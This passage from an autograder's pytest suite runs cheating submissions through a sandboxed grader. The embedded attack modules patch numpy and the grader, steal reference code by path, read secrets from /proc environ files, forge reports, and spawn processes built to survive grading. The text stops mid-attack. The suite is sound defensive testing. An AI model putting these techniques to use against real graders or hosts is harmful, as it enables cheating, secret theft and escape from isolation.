"""The attack suite: submissions written the way a cheating student would write them.

Each test grades, through the real worker and the real bubblewrap sandbox, a submission made of
the reference modules with ``conv.py`` replaced by an attack, and proves two things:

- the attack gains nothing: conv scores no more than the honest baseline (a module returning
  zeros, which scores 0), and the other exercises no more than their full marks;
- nothing hidden leaks: no hidden case's input, no secret, no rubric or reference text appears in
  any report the student sees (JSON, Markdown, HTML, Gradescope, terminal).

Where an attack would pay off if its trick worked, its module is written so that it really would
(it calls the stolen reference, returns the found array ...); the control test shows that payoff
path scoring full marks when handed the reference's code openly.

Attacks that would touch the host if they ran unsandboxed (writing files, signalling every
process) are skipped where bubblewrap is missing; ``test_bubblewrap_is_available_in_ci`` makes
sure that never happens in CI.
"""

from __future__ import annotations

import json
import os
import re
import signal
import socket
import subprocess
import sys
import threading
import zipfile
from pathlib import Path

import pytest

import autograder.integrations.batch
from autograder.integrations.batch import run_batch
from builders import REFERENCE_DIR, ROOT, RUBRICS_DIR, build_notebook, build_submission, on_reference
from autograder.judge.grading import grade
from autograder.sandbox.isolation import Sandbox, bubblewrap

from hostile import (CONV_ZEROS, IDENTITY, conv_rubrics, course_rubrics, fast_sandbox, leaked_hidden_numbers,
                     hidden_inputs, lingering, marker, run_grade)

SECRET = "hostile-attack-secret-5e1b0c9d"

sandboxed = pytest.mark.skipif(bubblewrap() is None, reason="bubblewrap is missing: this attack would act on the "
                                                            "host itself (test_bubblewrap_is_available_in_ci keeps it "
                                                            "from being skipped in CI)")


@pytest.fixture(autouse=True)
def secret(monkeypatch) -> str:
    """The instructor's secret for every attack: the grader reads it from its environment."""
    monkeypatch.setenv("AUTOGRADER_SECRET", SECRET)
    monkeypatch.delenv("AUTOGRADER_SECRET_FILE", raising=False)
    return SECRET


def fill(source: str, **values) -> str:
    """``source`` with every ``@NAME@`` replaced by ``values[name]``."""
    for name, value in values.items():
        source = source.replace(f"@{name}@", str(value))
    left = re.findall(r"@[A-Z_]+@", source)
    assert not left, f"placeholders left unfilled: {left}"
    return source


def assert_gains_nothing(graded, rubrics) -> None:
    """conv scores no more than the honest zeros baseline (0); the rest no more than full marks."""
    assert graded.score("conv") == 0, graded.messages("conv")
    others = sum(graded.max_score(r.exercise) for r in rubrics if r.exercise != "conv")
    assert graded.result.score <= others


def assert_nothing_hidden_leaks(graded, rubrics, secret: str) -> None:
    leaked = leaked_hidden_numbers(graded.everything, rubrics, secret)
    assert leaked == [], f"hidden inputs shown to the student: {leaked[:5]}"
    assert secret not in graded.everything


# The payoff of an attack that gets hold of the reference's code: full marks. Attacks fill STOLEN, and
# note what they tried in NOTES; the forward prints that when it has nothing, to show the attack ran.
RAN = "ATTACK RAN, NOTHING STOLEN"
PAYOFF = '''
import numpy as _np
STOLEN, NOTES = {}, []

def conv2d_forward(x, w, b, stride=1, pad=0):
    if "conv2d_forward" in STOLEN:
        return STOLEN["conv2d_forward"](x, w, b, stride, pad)
    print("ATTACK RAN, NOTHING STOLEN:", *NOTES)
    return _np.zeros((x.shape[0], w.shape[0], 1, 1)), None

def conv2d_backward(dout, cache):
    if "conv2d_backward" in STOLEN:
        return STOLEN["conv2d_backward"](dout, cache)
    return _np.zeros(1), _np.zeros(1), _np.zeros(1)
'''


def test_honest_baseline_of_zeros_scores_nothing_on_conv_and_full_marks_elsewhere(tmp_path):
    rubrics = course_rubrics()
    graded = run_grade(tmp_path / "s", {"conv": CONV_ZEROS}, rubrics)
    assert graded.score("conv") == 0
    assert all(graded.full(r.exercise) for r in rubrics if r.exercise != "conv")


def test_control_the_payoff_path_of_the_attacks_scores_full_marks_when_given_the_reference(tmp_path):
    source = PAYOFF + f"\nexec(compile({(REFERENCE_DIR / 'conv.py').read_text()!r}, 'ref', 'exec'), STOLEN)\n"
    graded = run_grade(tmp_path / "s", {"conv": source}, conv_rubrics())
    assert graded.full("conv"), graded.messages("conv")


# -- lying about the values ---------------------------------------------------------------------

SHAPES = '''
def _out_shape(x, w, stride, pad):
    (sh, sw), (ph, pw) = [(v, v) if isinstance(v, int) else tuple(v) for v in (stride, pad)]
    return (x.shape[0], w.shape[0], (x.shape[2] + 2 * ph - w.shape[2]) // sh + 1,
            (x.shape[3] + 2 * pw - w.shape[3]) // sw + 1)
'''
"""For attacks that return arrays of exactly the right shape, so only the values stand between them and points."""

PATCH_NUMPY = SHAPES + '''
import numpy as np
import numpy.testing

def _true(*args, **kwargs):
    return True

np.allclose = np.array_equal = np.array_equiv = _true
np.isclose = lambda a, b, *args, **kwargs: np.ones(np.broadcast(a, b).shape, dtype=bool)
np.testing.assert_allclose = np.testing.assert_array_almost_equal = np.testing.assert_array_equal = (
    lambda *args, **kwargs: None)
np.testing.assert_equal = np.testing.assert_almost_equal = lambda *args, **kwargs: None
np.max = np.amax = np.min = np.amin = lambda *args, **kwargs: 0.0
np.abs = np.absolute = np.fabs = lambda x, *args, **kwargs: np.zeros_like(x)
np.all = np.any = _true
np.isfinite = lambda x, *args, **kwargs: np.ones(np.shape(x), dtype=bool)
np.isnan = np.isinf = lambda x, *args, **kwargs: np.zeros(np.shape(x), dtype=bool)
np.linalg.norm = lambda *args, **kwargs: 0.0

def conv2d_forward(x, w, b, stride=1, pad=0):
    return np.zeros(_out_shape(x, w, stride, pad)), (x.shape, w.shape, b.shape)

def conv2d_backward(dout, cache):
    return tuple(np.zeros(shape) for shape in cache)
'''


def test_patching_numpy_comparisons_in_the_worker_gains_nothing(tmp_path):
    graded = run_grade(tmp_path / "s", {"conv": PATCH_NUMPY}, conv_rubrics())
    assert_gains_nothing(graded, conv_rubrics())
    assert "out is wrong: relative error" in graded.messages("conv")


LYING_SUBCLASS = SHAPES + '''
import numpy as np

class Liar(np.ndarray):
    """An array that says it equals anything, is close to anything, and has no error."""
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    __le__ = __gt__ = __ge__ = __lt__
    def __sub__(self, other): return np.zeros(np.shape(other)).view(Liar)
    __rsub__ = __sub__
    def __abs__(self): return np.zeros(self.shape)
    def __bool__(self): return True
    def __float__(self): return 0.0
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return np.zeros(np.broadcast(*[np.asarray(i) for i in inputs]).shape)
    def __array_function__(self, func, types, args, kwargs):
        return True
    def astype(self, *args, **kwargs): return self
    @property
    def dtype(self): return np.dtype(np.float64)

def conv2d_forward(x, w, b, stride=1, pad=0):
    return np.ndarray.view(np.zeros(_out_shape(x, w, stride, pad)), Liar), (x, w, b)

def conv2d_backward(dout, cache):
    return tuple(np.ndarray.view(np.zeros(np.ndarray.__array__(a).shape), Liar) for a in cache)
'''


def test_an_ndarray_subclass_whose_comparisons_and_arithmetic_lie_gains_nothing(tmp_path):
    graded = run_grade(tmp_path / "s", {"conv": LYING_SUBCLASS}, conv_rubrics())
    assert_gains_nothing(graded, conv_rubrics())
    assert "is wrong: relative error" in graded.messages("conv"), "its data should be compared as a plain array"


ARRAY_PROTOCOL = '''
import numpy as np

class Sneaky:
    """Looks like an array to anything that asks politely, and agrees with everything."""
    shape, ndim, dtype = (2, 2, 3, 3), 4, np.dtype(np.float64)
    def __init__(self, shape): self.shape = shape
    def __array__(self, dtype=None, copy=None): return np.zeros(self.shape)
    @property
    def __array_interface__(self): return np.zeros(self.shape).__array_interface__
    def __eq__(self, other): return True
    def __sub__(self, other): return np.zeros(np.shape(other))
    __rsub__ = __sub__
    def __abs__(self): return 0.0
    def __len__(self): return self.shape[0]
    def __getitem__(self, key): return np.zeros(self.shape)[key]
    def astype(self, *args, **kwargs): return self

def conv2d_forward(x, w, b, stride=1, pad=0):
    return Sneaky((x.shape[0], w.shape[0], x.shape[2], x.shape[3])), None

def conv2d_backward(dout, cache):
    return Sneaky((2, 1, 5, 5)), Sneaky((2, 1, 3, 3)), Sneaky((2,))
'''


def test_objects_with_array_protocol_tricks_gain_nothing(tmp_path):
    graded = run_grade(tmp_path / "s", {"conv": ARRAY_PROTOCOL}, conv_rubrics())
    assert_gains_nothing(graded, conv_rubrics())
    assert "expected a numpy.ndarray" in graded.messages("conv")


CONTAINER_SUBCLASSES = '''
import numpy as np

class AgreeableTuple(tuple):
    def __eq__(self, other): return True
    def __len__(self): return 2
    def __getitem__(self, key): return np.zeros(1)

class AgreeableDict(dict):
    def __eq__(self, other): return True
    def __contains__(self, key): return True
    def __getitem__(self, key): return np.zeros(1)
    def get(self, key, default=None): return np.zeros(1)
    def keys(self): return ["dx", "dw", "db"]

def conv2d_forward(x, w, b, stride=1, pad=0):
    return AgreeableTuple((np.zeros(1), None))

def conv2d_backward(dout, cache):
    return AgreeableDict(dx=np.zeros(1), dw=np.zeros(1), db=np.zeros(1))
'''


def test_tuple_and_dict_subclasses_that_lie_gain_nothing(tmp_path):
    graded = run_grade(tmp_path / "s", {"conv": CONTAINER_SUBCLASSES}, conv_rubrics())
    assert_gains_nothing(graded, conv_rubrics())
    assert "out has shape (1,)" in graded.messages("conv")


# -- going after the grader itself ----------------------------------------------------------------

GRADER_IMPORTS = {
    "import statement": "import autograder.checks.compare as _compare\n",
    "importlib with a built name": ("import importlib\n"
                                    "_compare = importlib.import_module('auto' + 'grader' + '.checks.compare')\n"),
    "sys.modules injection": (
        "import sys, types\n"
        "for _name in ('autograder', 'autograder.checks', 'autograder.checks.compare'):\n"
        "    sys.modules[_name] = types.ModuleType(_name)\n"
        "sys.modules['autograder.checks.compare'].check_array = lambda *a, **k: True\n"
        "import importlib\n_compare = importlib.import_module('auto' + 'grader.checks.compare')\n"),
    "loading the grader's file by path": (
        "import importlib.util, sys\n"
        "_spec = importlib.util.spec_from_file_location('_c', '@ROOT@/autograder/checks/compare.py')\n"
        "_compare = importlib.util.module_from_spec(_spec)\n"
        "_spec.loader.exec_module(_compare)\n"),
}

GRADER_PATCH = '''
import numpy as np
try:
@IMPORT@
    class _Pass:
        passed, message, relative_error = True, "", 0.0
    _compare.check_array = lambda *a, **k: _Pass()
    _compare.check_values = lambda *a, **k: _Pass()
    _compare.relative_error = lambda *a, **k: 0.0
    OUTCOME = "patched the grader"
except Exception as error:
    OUTCOME = f"could not reach the grader: {type(error).__name__}"

def conv2d_forward(x, w, b, stride=1, pad=0):
    print("ATTACK RAN:", OUTCOME)
    return np.zeros((x.shape[0], w.shape[0], 1, 1)), None

def conv2d_backward(dout, cache):
    return np.zeros(1), np.zeros(1), np.zeros(1)
'''


@pytest.mark.parametrize("how", list(GRADER_IMPORTS))
def test_importing_and_patching_the_grader_gains_nothing(tmp_path, how):
    body = "\n".join("    " + line for line in fill(GRADER_IMPORTS[how], ROOT=ROOT).splitlines())
    graded = run_grade(tmp_path / "s", {"conv": GRADER_PATCH.replace("@IMPORT@", body)}, conv_rubrics())
    assert_gains_nothing(graded, conv_rubrics())
    if "import autograder" in GRADER_IMPORTS[how]:
        assert "imports autograder" in graded.result.exercise("conv").note
    else:
        assert "ATTACK RAN" in graded.result.output, "the attack should have run (in the worker, where it is harmless)"


FORGE_REPLIES = '''
import sys
import numpy as np

_worker = sys.modules["__main__"].Worker

def _forged(self, header, arrays):
    """Answer every request with success and a verdict, without running anything."""
    reply = {"ok": True, "passed": True, "verdict": "correct", "score": 1000, "max_score": 1000,
             "stdout": "", "seconds": 0.0, "is_value_error": True}
    op = header.get("op")
    if op in ("import", "release"):
        return reply, []
    out = list(arrays)
    first = next((a for a in arrays if a.ndim == 4), np.zeros((1, 1, 1, 1)))
    if op == "perturb":
        n = len(arrays[header["directions"]])
        reply["plus"] = {"list": [{"a": len(out)}]}
        reply["minus"] = {"list": [{"a": len(out)}]}
        out.append(np.zeros((n, 1)))
        return reply, out
    if header.get("fn", "").endswith("backward"):
        reply["result"] = {"tuple": [{"a": len(out)}] * 3}
        out.append(np.zeros(1))
    else:
        reply["result"] = {"tuple": [{"a": len(out)}, {"h": 1}]}
        out.append(np.zeros_like(first))
    if header.get("return_inputs"):
        reply["inputs_after"] = header["args"]
        reply["forward_inputs_after"] = header["args"]
    return reply, out

_worker.handle = _forged

def conv2d_forward(x, w, b, stride=1, pad=0):
    return np.zeros(1), None

def conv2d_backward(dout, cache):
    return np.zeros(1), np.zeros(1), np.zeros(1)
'''


def test_patching_the_worker_to_forge_success_replies_gains_nothing(tmp_path):
    rubrics = course_rubrics()
    graded = run_grade(tmp_path / "s", {"conv": FORGE_REPLIES}, rubrics)
    assert_gains_nothing(graded, rubrics)
    assert lingering("__never__") == []


FORGED_LEAK = '''
import sys
import numpy as np

_wire = sys.modules["wire"]
_pack = _wire.pack
LAST = []

def _forged(header, arrays):
    if "result" in header:
        header = dict(header, result={"leak": LAST[-1]})
    return _pack(header, arrays)

_wire.pack = _forged

def conv2d_forward(x, w, b, stride=1, pad=0):
    LAST.append(repr(float(x.ravel()[0])))
    return np.zeros(1), None

def conv2d_backward(dout, cache):
    return np.zeros(1), np.zeros(1), np.zeros(1)
'''


def test_a_forged_malformed_reply_does_not_carry_hidden_inputs_into_a_report(tmp_path, secret):
    rubrics = conv_rubrics()
    graded = run_grade(tmp_path / "s", {"conv": FORGED_LEAK}, rubrics)
    assert_gains_nothing(graded, rubrics)
    assert_nothing_hidden_leaks(graded, rubrics, secret)


GRADER_CRASHERS = {
    "a reply whose JSON header is nested 100000 deep": '''
import struct, sys
import numpy as np
_wire = sys.modules["wire"]

def _deep(header, arrays):
    head = b"[" * 100000 + b"]" * 100000
    body = struct.pack(">I", len(head)) + head
    return struct.pack(">Q", len(body)) + body

def conv2d_forward(x, w, b, stride=1, pad=0):
    _wire.pack = _deep
    return np.zeros(1), None

def conv2d_backward(dout, cache):
    return np.zeros(1), np.zeros(1), np.zeros(1)
''',
    "an import reply whose error is not a dict": '''
import sys
import numpy as np
_wire = sys.modules["wire"]
_pack = _wire.pack

def _forged(header, arrays):
    _wire.pack = _pack
    return _pack({"ok": False, "error": "forged"}, [])

_wire.pack = _forged

def conv2d_forward(x, w, b, stride=1, pad=0):
    return np.zeros(1), None

def conv2d_backward(dout, cache):
    return np.zeros(1), np.zeros(1), np.zeros(1)
''',
    "a backward reply without the inputs it was asked to return": on_reference("conv", '''
import sys as _sys
_wire = _sys.modules["wire"]
_pack = _wire.pack
_backward = conv2d_backward
_DROP = []

def _forged(header, arrays):
    if _DROP:
        _DROP.clear()
        header = {k: v for k, v in header.items() if k != "inputs_after"}
    return _pack(header, arrays)

def conv2d_backward(dout, cache):
    _DROP.append(True)
    return _backward(dout, cache)

_wire.pack = _forged
'''),
}
"""Replies a patched worker can send that the grader does not survive (grade() raises)."""


@pytest.mark.parametrize("reply", list(GRADER_CRASHERS))
def test_a_forged_reply_cannot_crash_the_grader(tmp_path, reply):
    rubrics = course_rubrics()
    source = GRADER_CRASHERS[reply]
    graded = run_grade(tmp_path / "s", {"conv": source}, rubrics)
    assert all(graded.full(r.exercise) for r in rubrics if r.exercise != "conv")
    assert lingering("__never__") == []


# -- stealing the answers -----------------------------------------------------------------------

REFERENCE_BY_PATH = PAYOFF + '''
import os, sys, time

def _candidates():
    paths = ["@ROOT@/reference/conv.py", "/work/main/reference/conv.py", "/autograder/source/reference/conv.py"]
    starts = [os.path.dirname(os.path.abspath(__file__)), os.getcwd(), os.path.expanduser("~"),
              os.path.dirname(os.path.abspath(sys.modules["__main__"].__file__)), *sys.path]
    for start in starts:
        for _ in range(8):
            paths += [os.path.join(start, "reference", "conv.py"), os.path.join(start, "main", "reference", "conv.py")]
            start = os.path.dirname(start)
    deadline = time.monotonic() + 0.8
    for root, dirs, files in os.walk("/"):
        dirs[:] = [d for d in dirs if os.path.join(root, d) not in ("/proc", "/sys", "/dev")]
        paths += [os.path.join(root, f) for f in files if f in ("conv.py", "conv.ipynb")]
        if time.monotonic() > deadline:
            break
    return paths

_paths = _candidates()
NOTES.append(f"{len(_paths)} paths tried")
for _path in _paths:
    if os.path.abspath(_path) == os.path.abspath(__file__):
        continue
    try:
        _source = open(_path).read()
        if "def conv2d_forward" in _source and "raise NotImplementedError" not in _source:
            exec(compile(_source, _path, "exec"), STOLEN)
            break
    except Exception:
        STOLEN.clear()
'''


@sandboxed
def test_reading_the_reference_by_absolute_or_derived_path_gains_nothing(tmp_path):
    graded = run_grade(tmp_path / "s", {"conv": fill(REFERENCE_BY_PATH, ROOT=ROOT)}, conv_rubrics())
    assert_gains_nothing(graded, conv_rubrics())
    assert RAN in graded.result.output and "paths tried" in graded.result.output


REFERENCE_IMPORTS = {
    "import reference": "import reference.conv as _ref\n",
    "from .. import reference": "from .. import reference as _pkg\n_ref = _pkg.conv\n",
    "importlib with a built name": "import importlib\n_ref = importlib.import_module('refer' + 'ence.conv')\n",
    "__import__ with a joined name": "_ref = __import__(''.join(['refer', 'ence', '.conv']), fromlist=['x'])\n",
    "sys.path pointing at the repository": ("import sys, importlib\nsys.path[:0] = ['@ROOT@', '/work/main']\n"
                                            "_ref = importlib.import_module(''.join(['refer', 'ence.conv']))\n"),
}


@pytest.mark.parametrize("how", list(REFERENCE_IMPORTS))
def test_importing_the_reference_gains_nothing(tmp_path, how):
    attempt = "\n".join("    " + line for line in fill(REFERENCE_IMPORTS[how], ROOT=ROOT).splitlines())
    source = PAYOFF + (f"try:\n{attempt}\n    STOLEN.update(vars(_ref))\n"
                       f"except Exception as _error:\n    NOTES.append(type(_error).__name__)\n")
    graded = run_grade(tmp_path / "s", {"conv": source}, conv_rubrics())
    assert_gains_nothing(graded, conv_rubrics())
    if how in ("import reference", "from .. import reference"):
        assert "which submissions may not use" in graded.result.exercise("conv").note
    else:
        assert RAN in graded.result.output


HIDDEN_FILES = '''
import glob, os, sys
import numpy as np

def _exfiltrate():
    found = []
    names = ["@RUBRICS@/conv.yaml", "/work/main/rubrics/conv.yaml", "@SECRET_FILE@", "@ROOT@/reference/conv.py"]
    names += glob.glob("/*.yaml") + glob.glob("/*/*.yaml") + glob.glob("/sandbox/*/*") + glob.glob("/tmp/**")
    for name in names:
        if os.path.dirname(os.path.abspath(name)) == os.path.dirname(os.path.abspath(__file__)):
            continue  # the student's own modules
        try:
            text = open(name).read()
        except Exception:
            continue
        if ("criteria:" in text and "hidden:" in text) or name == "@SECRET_FILE@" or "BEGIN SOLUTION" in text:
            found.append(name + ": " + text[:300])
    environ = dict(os.environ)
    for path in glob.glob("/proc/*/environ") + ["/proc/%d/environ" % os.getppid(), "/proc/1/environ"]:
        try:
            for entry in open(path, "rb").read().split(b"\\0"):
                key, _, value = entry.decode(errors="replace").partition("=")
                environ[key] = value
        except Exception:
            pass
    found += [f"{k}={v}" for k, v in environ.items() if "AUTOGRADER" in k or "SECRET" in k]
    return found

def conv2d_forward(x, w, b, stride=1, pad=0):
    found = _exfiltrate()
    print("EXFILTRATED<<" + " | ".join(found) + ">>" if found else "BLOCKED")
    raise ValueError("EXFILTRATED<<" + " | ".join(found) + ">>" if found else "BLOCKED")

def conv2d_backward(dout, cache):
    raise ValueError("BLOCKED")
'''


@sandboxed
def test_the_rubric_the_secret_and_the_graders_environment_cannot_be_read_into_a_report(tmp_path, monkeypatch,
                                                                                         secret):
    key_file = tmp_path / "secret.key"
    key_file.write_text(secret + "\n")
    monkeypatch.setenv("AUTOGRADER_SECRET_FILE", str(key_file))
    source = fill(HIDDEN_FILES, RUBRICS=Path(RUBRICS_DIR).resolve(), SECRET_FILE=key_file, ROOT=ROOT)
    graded = run_grade(tmp_path / "s", {"conv": source}, conv_rubrics())
    assert_gains_nothing(graded, conv_rubrics())
    assert "BLOCKED" in graded.public_messages("conv"), "the attack should have run and found nothing"
    assert "EXFILTRATED" not in graded.everything
    assert_nothing_hidden_leaks(graded, conv_rubrics(), secret)


INTROSPECTION = '''
import gc, inspect, sys
import numpy as np

def _pair(v):
    return (v, v) if isinstance(v, int) else tuple(v)

def _arrays(value, depth=0, seen=None):
    seen = set() if seen is None else seen
    if id(value) in seen or depth > 4:
        return
    seen.add(id(value))
    if isinstance(value, np.ndarray):
        yield value
    elif isinstance(value, dict):
        for v in list(value.values()):
            yield from _arrays(v, depth + 1, seen)
    elif isinstance(value, (list, tuple, set)):
        for v in list(value):
            yield from _arrays(v, depth + 1, seen)
    elif hasattr(value, "__dict__") and not isinstance(value, type) and depth < 3:
        yield from _arrays(vars(value), depth + 1, seen)

def _look_for(shape, mine):
    places = []
    frame = sys._getframe(1)
    while frame is not None:
        places += [frame.f_locals, frame.f_globals]
        frame = frame.f_back
    places += [info.frame.f_locals for info in inspect.stack(0)]
    candidates = [a for place in places for a in _arrays(place)]
    for holder in gc.get_objects():
        if type(holder) is dict:
            candidates += [v for v in holder.values() if type(v) is np.ndarray]
        elif type(holder) in (list, tuple):
            candidates += [v for v in holder if type(v) is np.ndarray]
    for array in candidates:
        if array.shape == shape and not any(array is m or np.shares_memory(array, m) for m in mine):
            return array
    return None

def conv2d_forward(x, w, b, stride=1, pad=0):
    (sh, sw), (ph, pw) = _pair(stride), _pair(pad)
    shape = (x.shape[0], w.shape[0], (x.shape[2] + 2 * ph - w.shape[2]) // sh + 1,
             (x.shape[3] + 2 * pw - w.shape[3]) // sw + 1)
    found = _look_for(shape, [x, w, b])
    print("ATTACK RAN:", "found an array shaped like the output" if found is not None else "found nothing")
    return (np.array(found, dtype=float) if found is not None else np.zeros(shape)), (x, w, b)

def conv2d_backward(dout, cache):
    grads = [_look_for(a.shape, [dout, *cache]) for a in cache]
    return tuple(np.array(g, dtype=float) if g is not None else np.zeros(a.shape) for g, a in zip(grads, cache))
'''


def test_inspecting_the_callers_frames_and_the_heap_finds_no_expected_value(tmp_path):
    graded = run_grade(tmp_path / "s", {"conv": INTROSPECTION}, conv_rubrics())
    assert_gains_nothing(graded, conv_rubrics())
    assert "ATTACK RAN" in graded.result.output


# -- leaking hidden inputs into what the student sees ------------------------------------------------

REMEMBER_AND_TELL = '''
import numpy as np
SEEN = []

def conv2d_forward(x, w, b, stride=1, pad=0):
    SEEN.insert(0, " ".join(repr(float(v)) for v in x.ravel()[:3]))
    print("inputs seen so far:", " / ".join(SEEN))
    raise ValueError("inputs seen so far: " + " / ".join(SEEN))

def conv2d_backward(dout, cache):
    raise ValueError(" / ".join(SEEN))
'''


def test_hidden_inputs_remembered_by_the_module_never_reach_a_later_public_report(tmp_path, secret):
    rubrics = conv_rubrics()
    graded = run_grade(tmp_path / "s", {"conv": REMEMBER_AND_TELL}, rubrics)
    assert_gains_nothing(graded, rubrics)
    assert "inputs seen so far" in graded.public_messages("conv")
    assert_nothing_hidden_leaks(graded, rubrics, secret)


NAMED_AFTER_INPUTS = {
    "a class named after the input": '''
import numpy as np

def conv2d_forward(x, w, b, stride=1, pad=0):
    return type("v" + repr(float(x.ravel()[0])), (), {})(), None

def conv2d_backward(dout, cache):
    return np.zeros(1), np.zeros(1), np.zeros(1)
''',
    "a structured dtype whose field is named after the input": '''
import numpy as np

def conv2d_forward(x, w, b, stride=1, pad=0):
    return np.zeros(2, dtype=[("v" + repr(float(x.ravel()[0])), "f8")]), None

def conv2d_backward(dout, cache):
    return np.zeros(1), np.zeros(1), np.zeros(1)
''',
}


@pytest.mark.parametrize("how", list(NAMED_AFTER_INPUTS))
def test_a_returned_object_named_after_a_hidden_input_does_not_leak_it(tmp_path, secret, how):
    rubrics = conv_rubrics()
    graded = run_grade(tmp_path / "s", {"conv": NAMED_AFTER_INPUTS[how]}, rubrics)
    assert_gains_nothing(graded, rubrics)
    assert_nothing_hidden_leaks(graded, rubrics, secret)


TUPLE_LENGTH = '''
import numpy as np

def conv2d_forward(x, w, b, stride=1, pad=0):
    return (None,) * (10 + int(abs(float(x.ravel()[0])) * 10**4))

def conv2d_backward(dout, cache):
    return np.zeros(1), np.zeros(1), np.zeros(1)
'''


def test_the_length_of_a_returned_tuple_does_not_carry_a_hidden_input(tmp_path, secret):
    rubrics = conv_rubrics()
    graded = run_grade(tmp_path / "s", {"conv": TUPLE_LENGTH}, rubrics)
    assert_gains_nothing(graded, rubrics)
    encoded = {str(10 + int(abs(float(a.ravel()[0])) * 10**4)) for a in hidden_inputs(rubrics, secret)}
    shown = {word for word in graded.hidden_messages("conv").split() if word.isdigit()}
    assert not encoded & shown, "hidden inputs encoded as a tuple length reached the report"


# -- fake reports and fake output ---------------------------------------------------------------------

FAKE_REPORT = {"submission": "x", "score": 1000, "max_score": 1000, "exercises": []}

FAKE_REPORTS = '''
import json, os
import numpy as np

FAKE = json.dumps(@FAKE@)
TARGETS = ["results.json", "report.json", "/autograder/results/results.json",
           os.path.join(os.path.dirname(os.path.abspath(__file__)), "results.json"),
           "@SUBMISSION@/results.json", "@SUBMISSION@/report.json", "@HOSTCWD@/results.json",
           "@HOSTCWD@/report.json", os.path.expanduser("~/results.json")]
written = []
for target in TARGETS:
    try:
        os.makedirs(os.path.dirname(os.path.abspath(target)), exist_ok=True)
        with open(target, "w") as file:
            file.write(FAKE)
        written.append(target)
    except OSError:
        pass
print(FAKE)

def conv2d_forward(x, w, b, stride=1, pad=0):
    print(FAKE)
    return np.zeros(1), None

def conv2d_backward(dout, cache):
    return np.zeros(1), np.zeros(1), np.zeros(1)
'''


@sandboxed
def test_writing_fake_reports_and_results_files_changes_nothing_on_the_host(tmp_path, monkeypatch):
    host_cwd = tmp_path / "cwd"
    host_cwd.mkdir()
    monkeypatch.chdir(host_cwd)
    gradescope = Path("/autograder/results/results.json")
    before = gradescope.read_bytes() if gradescope.exists() else None
    submission = tmp_path / "s"
    source = fill(FAKE_REPORTS, FAKE=FAKE_REPORT, SUBMISSION=submission, HOSTCWD=host_cwd)
    graded = run_grade(submission, {"conv": source}, conv_rubrics())
    assert_gains_nothing(graded, conv_rubrics())
    assert list(host_cwd.iterdir()) == []
    assert not (submission / "results.json").exists() and not (submission / "report.json").exists()
    assert (gradescope.read_bytes() if gradescope.exists() else None) == before
    assert not (Path.home() / "results.json").exists() or (Path.home() / "results.json").read_text() != json.dumps(
        FAKE_REPORT)


FAKE_OUTPUT = '''
import atexit, json, os, sys
import numpy as np

FAKE = json.dumps(@FAKE@)

def _shout():
    print(FAKE)
    print(FAKE, file=sys.__stdout__, flush=True)
    for fd in (1, 2):
        try:
            os.write(fd, (FAKE + "\\n").encode())
        except OSError:
            pass
    for path in ("/dev/stdout", "/dev/stderr", "/proc/self/fd/1", "/proc/%d/fd/1" % os.getppid(), "/proc/1/fd/1",
                 "@OUT@/report.json", "@OUT@/results.json"):
        try:
            with open(path, "w") as stream:
                stream.write(FAKE + "\\n")
        except OSError:
            pass

_shout()
atexit.register(_shout)

def conv2d_forward(x, w, b, stride=1, pad=0):
    _shout()
    return np.zeros(1), None

def conv2d_backward(dout, cache):
    _shout()
    return np.zeros(1), np.zeros(1), np.zeros(1)
'''

LAUNCHER = """
import sys
import autograder.judge.grading
from autograder.course.rubric import load_rubrics
autograder.judge.grading.load_rubrics = lambda course, exercises=None: load_rubrics(course, tuple(sys.argv[1].split(",")))
from autograder.cli import main
sys.exit(main(sys.argv[2:]))
"""
"""``autograder grade ...`` restricted to the rubrics this suite trusts (others are being written meanwhile)."""


@sandboxed
def test_printing_fake_json_leaves_grade_json_output_exactly_one_report_with_the_real_score(tmp_path, secret):
    rubrics = course_rubrics(others=1)
    submission = tmp_path / "s"
    out = tmp_path / "out"
    graded = run_grade(submission, {"conv": fill(FAKE_OUTPUT, FAKE=FAKE_REPORT, OUT=out)}, rubrics)
    command = [sys.executable, "-c", LAUNCHER, ",".join(r.exercise for r in rubrics), "grade", str(submission),
               "--json", "--identity", IDENTITY, "--out", str(out)]
    run = subprocess.run(command, capture_output=True, text=True, timeout=120, cwd=tmp_path)
    assert run.returncode == 0, run.stderr[-2000:]
    report = json.loads(run.stdout)
    assert report["score"] == graded.result.score != FAKE_REPORT["score"]
    assert [e["score"] for e in report["exercises"] if e["name"] == "conv"] == [0]
    assert json.loads((out / "report.json").read_text())["score"] == graded.result.score
    assert json.loads((out / "results.json").read_text())["score"] == graded.result.score
    assert lingering("__never__") == []


ATEXIT = '''
import atexit, os, signal, sys, threading
import numpy as np

def _last_word():
    for path in ("/tmp/@MARKER@", "@HOSTTMP@/@MARKER@"):
        try:
            with open(path, "w") as file:
                file.write("I was here after grading")
        except OSError:
            pass

atexit.register(_last_word)
threading.Thread(target=lambda: threading.Event().wait(1000), daemon=False).start()
for name in ("SIGTERM", "SIGHUP", "SIGINT", "SIGPIPE"):
    signal.signal(getattr(signal, name), lambda *a: _last_word())
sys.excepthook = lambda *a: _last_word()
os.register_at_fork(after_in_child=_last_word)

def conv2d_forward(x, w, b, stride=1, pad=0):
    return np.zeros(1), None

def conv2d_backward(dout, cache):
    return np.zeros(1), np.zeros(1), np.zeros(1)
'''


@sandboxed
def test_atexit_signal_and_fork_handlers_do_not_run_anything_after_grading(tmp_path):
    token = marker("atexit")
    source = fill(ATEXIT, MARKER=token, HOSTTMP=tmp_path)
    graded = run_grade(tmp_path / "s", {"conv": source}, conv_rubrics())
    assert_gains_nothing(graded, conv_rubrics())
    assert not (Path("/tmp") / token).exists() and not (tmp_path / token).exists()
    assert lingering(token) == []


# -- escaping the worker ------------------------------------------------------------------------------

OUTLIVE = '''
import os, signal, subprocess, sys, threading, time
import numpy as np

M = "@MARKER@"
SPAWNED = []

def _spin():
    while True:
        time.sleep(0.01)

def _spawn():
    if SPAWNED:
        return
    SPAWNED.append(1)
    quiet = dict(stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    subprocess.Popen([sys.executable, "-c", "import time\\nwhile True: time.sleep(1)", M], **quiet)
    subprocess.Popen(["/bin/sh", "-c", "trap '' TERM HUP INT; while :; do sleep 1; done; : " + M],
                     start_new_session=True, **quiet)
    pid = os.fork()
    if pid == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", "import signal, time\\n"
